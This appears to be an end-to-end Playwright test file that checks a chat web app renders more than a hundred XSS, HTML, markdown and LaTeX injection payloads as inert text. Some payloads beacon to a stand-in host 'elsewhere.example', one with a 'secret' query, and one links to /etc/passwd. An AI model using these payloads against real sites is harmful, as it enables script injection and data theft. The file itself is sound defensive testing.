"""Texts that try to run, to become markup or to carry something out: as name, message, reply, title and file name."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, expect

from tests_e2e.served import Served, serve
from tests_e2e.tab import Tab
from tests_e2e.visitor import Visitor

ELSEWHERE = "https://elsewhere.example"
TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://elsewhere.example/x.png>",
    "<img srcset='https://elsewhere.example/x.png 2x'>",
    "<img/src/onerror=alert(1)>",
    "<image href=//elsewhere.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://elsewhere.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://elsewhere.example></object>",
    "<embed src=https://elsewhere.example>",
    "<video src=https://elsewhere.example/x onerror=alert(1)>",
    "<audio src=https://elsewhere.example/x autoplay>",
    "<video poster=https://elsewhere.example/x.png>",
    "<source src=https://elsewhere.example/x>",
    "<track src=https://elsewhere.example/x>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<link rel=prefetch href=https://elsewhere.example/x>",
    "<link rel=dns-prefetch href=//elsewhere.example>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=https://elsewhere.example/>",
    "<form action=https://elsewhere.example><button autofocus>x</button></form>",
    "<form id=message><input name=value></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<body background=https://elsewhere.example/x.png>",
    "<table background=https://elsewhere.example/x.png>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<style>*{background:url(https://elsewhere.example/x.png)}</style>",
    "<p style='background:url(https://elsewhere.example/x.png)'>x</p>",
    "<p style=position:fixed;inset:0;z-index:9>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://elsewhere.example ping=https://elsewhere.example/p>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://elsewhere.example/x.css'?>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<b id=root>x</b>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '"onmouseover=alert(1) autofocus x="',
    "'\"><img src=x onerror=alert(1)>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://elsewhere.example/1)",
    "[x](intent://elsewhere.example#Intent;end)",
    "[x](//elsewhere.example)",
    "[x](/admin/logout/)",
    "[x](https://elsewhere.example 'onmouseover=alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://elsewhere.example/x.png?q=secret)",
    "![x](//elsewhere.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](https://elsewhere.example/x.png)](https://elsewhere.example)",
    "![x]\n\n[x]: https://elsewhere.example/x.png",
    "![x](x 'onerror=alert(1)')",
    "<javascript:alert(1)>",
    "<https://elsewhere.example/auto>",
    "https://elsewhere.example/bare?q=secret",
    "www.elsewhere.example",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "```constructor\nx\n```",
    "```__proto__\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
    "- [x] <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\url{javascript:alert(1)}$$",
    "$$\\includegraphics{https://elsewhere.example/x.png}$$",
    "$$\\htmlStyle{background:url(https://elsewhere.example)}{x}$$",
    "$$\\htmlData{x=<script>alert(1)</script>}{x}$$",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "\u202etxt.exe <img src=x onerror=alert(1)>",
]
PAYLOADS = [*TAGS, *MARKDOWN]
# What the page says of itself: a dialog it opened, or its own policy that something broke.
WATCH = """
    window.broken = [];
    for (const name of ["alert", "confirm", "prompt", "open"]) {
        window[name] = (...said) => { window.broken.push([name, ...said]); };
    }
    document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) => {
        window.broken.push(["policy", violatedDirective, blockedURI]);
    });
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Serve somebody who says very much at once."""
    patience = dict.fromkeys(("LIMIT_SENDS_PER_MINUTE", "LIMIT_FRAMES_PER_10S", "LIMIT_SESSIONS_PER_HOUR"), "100000")
    with serve(tmp_path_factory.mktemp("hostile"), GPTJ_URL="echo://", **patience) as started:
        yield started


class Watched:
    """A person's browser in which nothing may happen that a text asked for."""

    def __init__(self, browser: Browser, url: str) -> None:
        self.url = url
        self.outside: list[str] = []
        self.context: BrowserContext = browser.new_context(viewport={"width": 1280, "height": 800})
        self.context.add_init_script(WATCH)
        self.context.on("request", self._heard)
        self.context.on("dialog", self._asked)
        self.context.on("weberror", lambda error: self.outside.append(str(error.error)))
        self.page: Page = self.context.new_page()

    def _asked(self, dialog: Dialog) -> None:
        self.outside.append(dialog.message)
        dialog.dismiss()

    def _heard(self, request: Request) -> None:
        if not request.url.startswith(self.url):
            self.outside.append(request.url)

    def nothing_happened(self) -> None:
        assert self.page.evaluate("() => window.broken") == []
        assert self.outside == []
        assert self.page.url.startswith(self.url)
        assert (
            self.page.locator("body :is(script, iframe, object, embed, img, video, audio, base, form[action])").count()
            == 0
        )
        for address in self.page.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))"):
            assert address.startswith(("http://", "https://", "mailto:", "/c/", "#message")), address
        for link in self.page.locator("a[href^=http]").all():
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"


@pytest.fixture
def watched(browser: Browser, server: Served) -> Iterator[Watched]:
    watched = Watched(browser, server.url)
    yield watched
    watched.context.close()


def visitor_of(watched: Watched, name: str) -> Visitor:
    """Return a visitor of this name without a browser, and let the browser be the same person."""
    visitor = Visitor(watched.url)
    visitor.call("POST", "/api/sessions", json={"name": name}).raise_for_status()
    cookies = [{"name": key, "value": value or "", "url": watched.url} for key, value in visitor.http.cookies.items()]
    watched.context.add_cookies(cookies)  # type: ignore[arg-type] # a TypedDict
    return visitor


def test_there_are_a_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


def test_the_page_watches_what_happens(watched: Watched) -> None:
    """Or the tests below could not fail."""
    page = watched.page
    page.goto(watched.url)
    page.evaluate(
        "() => { document.body.append(Object.assign(new Image(), {src: 'https://elsewhere.example/x.png'})); }"
    )
    page.wait_for_function("() => window.broken.length > 0")
    with pytest.raises(AssertionError):
        watched.nothing_happened()


@pytest.mark.parametrize("part", range(8))
def test_messages_and_the_replies_that_repeat_them_do_nothing(watched: Watched, part: int) -> None:
    visitor = visitor_of(watched, "Ada")
    session = visitor.call("POST", "/api/sessions", json={}).json()["id"]
    texts = PAYLOADS[part::8]
    with visitor.connect(session) as socket:
        for text in texts:
            socket.ended(socket.say(text))
    page = watched.page
    tab = Tab(page, watched.url).open(f"/c/{session}")
    asked = tab.conversation.get_by_role("article").filter(has=page.get_by_role("heading", name="You", exact=True))
    expect(asked).to_have_count(len(texts))  # all are drawn, these being few
    expect(tab.replies).to_have_count(len(texts))
    page.wait_for_load_state("networkidle")  # formulas and colours come when they are needed
    for shown, text in zip(asked.all(), texts, strict=True):
        assert shown.locator("[dir=auto]").text_content() == text.strip()
    watched.nothing_happened()


@pytest.mark.parametrize("part", range(3))
def test_titles_do_nothing(watched: Watched, part: int) -> None:
    visitor = visitor_of(watched, "Ada")
    texts = PAYLOADS[part::3]
    for text in texts:
        assert visitor.call("POST", "/api/sessions", json={"title": text[:200]}).status_code in {201, 422}
    tab = Tab(watched.page, watched.url).open()
    expect(tab.sessions.get_by_role("link").nth(len(texts) - 5)).to_be_attached()
    watched.nothing_happened()
    for link in tab.sessions.get_by_role("link").all()[:6]:
        link.click()
        expect(tab.message).to_be_focused()
        watched.nothing_happened()


def test_names_do_nothing(watched: Watched) -> None:
    visitor = visitor_of(watched, "Ada")
    taken = 0
    for text in PAYLOADS:
        answer = visitor.call("POST", "/api/sessions", json={"name": text[:50]})
        taken += answer.status_code == 201
    assert taken >= 100
    page = watched.page
    for text in (text for text in PAYLOADS[::6] if text.isprintable()):
        visitor.call("POST", "/api/sessions", json={"name": text[:50]}).raise_for_status()
        page.goto(watched.url)
        expect(page.get_by_role("heading", level=1)).to_contain_text(text[:50].split("\n")[0].strip()[:8])
        watched.nothing_happened()


def test_the_address_and_what_is_searched_for_do_nothing(watched: Watched) -> None:
    visitor = visitor_of(watched, "Ada")
    session = visitor.call("POST", "/api/sessions", json={}).json()["id"]
    with visitor.connect(session) as socket:
        socket.ended(socket.say(" ".join(TAGS[:8])))
    page = watched.page
    for path in (
        "/c/%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/c/javascript:alert(1)",
        "/?q=<script>alert(1)</script>#<img src=x>",
    ):
        page.goto(f"{watched.url}{path}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        watched.nothing_happened()
    page.goto(watched.url)
    page.get_by_role("button", name="Search").click()
    page.get_by_role("searchbox").fill("<img src=x onerror=alert(1)>")
    expect(page.get_by_role("dialog").get_by_role("listitem").first).to_be_visible()
    watched.nothing_happened()


def test_what_is_exported_and_kept_is_text(watched: Watched) -> None:
    visitor = visitor_of(watched, "Ada")
    session = visitor.call("POST", "/api/sessions", json={"title": TAGS[0]}).json()["id"]
    for kind, type_ in (("markdown", "text/markdown"), ("json", "application/json")):
        answer = visitor.call("GET", f"/api/sessions/{session}/export?format={kind}")
        assert answer.headers["Content-Type"].startswith(type_)
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert json.loads(answer.text)
